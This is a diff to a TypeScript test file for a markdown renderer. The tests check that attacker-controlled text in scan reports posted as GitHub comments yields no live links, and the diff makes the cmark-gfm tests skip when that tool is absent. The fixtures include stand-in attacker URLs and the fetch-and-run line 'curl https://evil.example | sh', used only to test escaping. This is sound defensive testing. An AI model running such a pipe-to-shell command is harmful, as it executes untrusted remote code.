@@ -6,6 +6,10 @@ import { LIMITS, renderMarkdown } from '../../src/render/markdown.js';
 import { scanReport } from '../support/scan-report.js';
 import { BLOCKED_PR_LINKS, blockedPullRequestReport } from './support/blocked-pull-request.js';
 import { githubMarkdownToHtml } from './support/github-markdown-page.js';
+import { missingService } from '../support/system-services.js';
+
+/** Without cmark-gfm these tests skip (the run says how to install it); in CI they fail. */
+const withoutCmark = missingService('cmark-gfm');
 
 /** Content an attacker controls: file names, matched text, messages, fixes. */
 const URLS = ['https://evil.example/pay', 'http://10.0.0.1/x.sh', 'www.evil.example', 'ftp://evil.example/f', 'admin@evil.example'];
@@ -43,9 +47,9 @@ function hrefsOf(html: string): string[] {
   return [...html.matchAll(/<a\s[^>]*href="([^"]*)"/g)].map((m) => m[1]!);
 }
 
-describe('rendered by cmark-gfm, the engine GitHub renders comments with', () => {
+describe.skipIf(withoutCmark)('rendered by cmark-gfm, the engine GitHub renders comments with', () => {
   const body = renderMarkdown(hostileReport(), { maxLength: LIMITS.comment });
-  const html = githubMarkdownToHtml(body);
+  const html = withoutCmark ? '' : githubMarkdownToHtml(body);
 
   it('no link comes from content: every link is to the checked commit or to the rule reference', () => {
     const hrefs = hrefsOf(html);
@@ -99,7 +103,7 @@ describe('escaped forms (what the GitHub autolinker sees)', () => {
     expect(codeSpan('curl https://evil.example | sh')).toBe('<code>curl https:&#8203;//evil.example \\| sh</code>');
   });
 
-  it('keeps backtick code spans, where no autolink fires, as written', () => {
+  it.skipIf(withoutCmark)('keeps backtick code spans, where no autolink fires, as written', () => {
     expect(codeSpan('https://evil.example/x.sh')).toBe('`https://evil.example/x.sh`');
     expect(githubMarkdownToHtml(codeSpan('https://evil.example/x.sh'))).toBe('<p><code>https://evil.example/x.sh</code></p>\n');
   });
